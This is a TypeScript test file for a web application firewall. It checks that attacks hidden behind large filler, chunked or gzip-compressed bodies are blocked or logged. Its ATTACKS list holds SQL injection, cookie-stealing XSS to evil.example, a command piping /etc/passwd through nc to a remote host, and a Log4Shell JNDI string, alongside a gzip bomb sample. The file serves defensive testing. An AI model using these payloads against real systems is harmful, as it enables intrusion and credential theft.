/** Attacks behind more filler than the inspection reads at once, through the data plane. */
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import type { FirewallSettings } from '@sallyport/contract'
import { request, sendRaw } from '../../support/test-data-plane.ts'
import { CLOSED_MS, openFirewallGate } from './firewall-gate.ts'

const ATTACKS = [
  "1' union select username, password from users-- -",
  '<script>document.location="//evil.example/?"+document.cookie</script>',
  ';cat /etc/passwd|nc 203.0.113.7 4444',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what the attack looks like
  '${jndi:ldap://evil.example/a}',
]
const BOUNDARY = 'b0undary'
const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`
const part = (name: string, content: string): string =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${content}\r\n`

const FORMATS: Readonly<Record<string, (filler: string, value: string) => [type: string, body: string]>> = {
  form: (filler, value) => [
    'application/x-www-form-urlencoded',
    `note=${encodeURIComponent(filler)}&value=${encodeURIComponent(value)}`,
  ],
  JSON: (filler, value) => ['application/json', JSON.stringify({ note: filler, deep: [{ value }] })],
  multipart: (filler, value) => [
    MULTIPART,
    `${part('note', filler)}${part('value', value)}--${BOUNDARY}--\r\n`,
  ],
  text: (filler, value) => ['text/plain', `${filler}\n${value}`],
}
const fillerOf = (kilobytes: number): string =>
  Array.from({ length: kilobytes * 128 }, (_, index) => `word${1_000 + (index % 977)}`)
    .join(' ')
    .slice(0, kilobytes * 1024)

for (const kilobytes of [256, 1_024]) {
  const filler = fillerOf(kilobytes)
  for (const [format, make] of Object.entries(FORMATS)) {
    test(`enforce: an attack behind ${kilobytes} KB in ${format} is refused, and the origin has no whole request`, async (context) => {
      const gate = await openFirewallGate(context, { mode: 'enforce' })
      for (const attack of ATTACKS)
        assert.equal((await gate.post('/notes', ...make(filler, attack))).status, 403, attack)
      assert.equal(gate.seen.length, 0)
      const [, harmless] = make(filler, 'mara')
      assert.equal((await gate.post('/notes', ...make(filler, 'mara'))).status, 200)
      assert.equal(gate.seen[0]?.body, harmless)
      const events = await gate.recorder.waitFor(ATTACKS.length + 1)
      assert.ok(events.slice(0, ATTACKS.length).every(({ outcome }) => outcome === 'firewall'))
      assert.deepEqual(events.at(-1)?.hits, [])
    })

    test(`observe: an attack behind ${kilobytes} KB in ${format} is recorded`, async (context) => {
      const gate = await openFirewallGate(context, {})
      for (const attack of ATTACKS) {
        const [type, body] = make(filler, attack)
        assert.equal((await gate.post('/notes', type, body)).status, 200)
        assert.equal(gate.seen.at(-1)?.body, body)
      }
      for (const event of await gate.recorder.waitFor(ATTACKS.length)) {
        assert.ok(event.hits.length > 0)
        assert.equal(event.inspection, 'partial')
      }
    })
  }
}

test('a long body that comes in chunks of any size reaches the origin as it was sent', async (context) => {
  const gate = await openFirewallGate(context, { mode: 'enforce' })
  const [type, body] = FORMATS.JSON?.(fillerOf(600), 'mara') ?? ['', '']
  for (const chunkBytes of [1_000, 70_000, 196_608]) {
    let chunked = ''
    for (let at = 0; at < body.length; at += chunkBytes) {
      const chunk = body.slice(at, at + chunkBytes)
      chunked += `${chunk.length.toString(16)}\r\n${chunk}\r\n`
    }
    const head = request(
      'POST /notes',
      'Connection: close',
      `Content-Type: ${type}`,
      'Transfer-Encoding: chunked',
    )
    assert.equal((await sendRaw(gate.port, `${head}${chunked}0\r\n\r\n`, CLOSED_MS)).status, 200)
    assert.equal(gate.seen.at(-1)?.body, body)
  }
})

test('a body of exactly what is read at once is seen in full', async (context) => {
  for (const mode of ['observe', 'enforce'] as const) {
    const gate = await openFirewallGate(context, { mode })
    const body = JSON.stringify('x '.repeat(98_303))
    assert.equal(body.length, 192 * 1024)
    assert.equal((await gate.post('/notes', 'application/json', body)).status, 200)
    const [event] = await gate.recorder.waitFor(1)
    assert.equal(event?.inspection, 'full')
  }
})

test('an attack behind a megabyte of filler is found in compressed data, too', async (context) => {
  const gate = await openFirewallGate(context, { mode: 'enforce' })
  const [type, body] = FORMATS.JSON?.(fillerOf(1_024), ATTACKS[0] ?? '') ?? ['', '']
  const compressed = gzipSync(body)
  const head = request(
    'POST /notes',
    'Connection: close',
    `Content-Type: ${type}`,
    'Content-Encoding: gzip',
    `Content-Length: ${compressed.length}`,
  )
  const answer = await sendRaw(gate.port, Buffer.concat([Buffer.from(head), compressed]), CLOSED_MS)
  assert.equal(answer.status, 403)
})

/** Bodies of which something cannot be judged: one that is broken, one that opens to more than is judged, one whose rest is compressed. */
const UNSEEN: Readonly<Record<string, Buffer>> = {
  broken: gzipSync('{"note":"hello"}').subarray(0, 20),
  'a bomb': gzipSync(Buffer.alloc(8 * 1024 * 1024, 0x20)),
  long: gzipSync(randomBytes(400 * 1024).toString('hex')),
}

for (const [kind, body] of Object.entries(UNSEEN))
  test(`a compressed body that cannot be inspected, ${kind}, is forwarded or refused as the site says`, async (context) => {
    const statusOf = async (firewall: Partial<FirewallSettings>): Promise<number> => {
      const gate = await openFirewallGate(context, firewall)
      const head = request(
        'POST /notes',
        'Connection: close',
        'Content-Type: application/json',
        'Content-Encoding: gzip',
        `Content-Length: ${body.length}`,
      )
      const { status } = await sendRaw(gate.port, Buffer.concat([Buffer.from(head), body]), CLOSED_MS)
      const [event] = await gate.recorder.waitFor(1)
      assert.equal(event?.inspection, 'partial')
      assert.equal(event?.reason, status === 403 ? 'not_inspected' : '')
      assert.equal(event?.outcome, status === 403 ? 'firewall' : 'origin')
      assert.equal(gate.seen.length, status === 403 ? 0 : 1)
      return status
    }
    assert.equal(await statusOf({ mode: 'enforce', uninspected: 'refuse' }), 403)
    assert.equal(await statusOf({ mode: 'enforce' }), 200)
    assert.equal(await statusOf({ mode: 'observe', uninspected: 'refuse' }), 200)
  })

test('what is inspected and only doubtful is not refused as uninspected', async (context) => {
  const gate = await openFirewallGate(context, { mode: 'enforce', uninspected: 'refuse' })
  assert.equal((await gate.post('/notes', 'application/json', 'no json')).status, 200)
  assert.equal((await gate.post('/notes', 'text/plain', fillerOf(256))).status, 200)
})
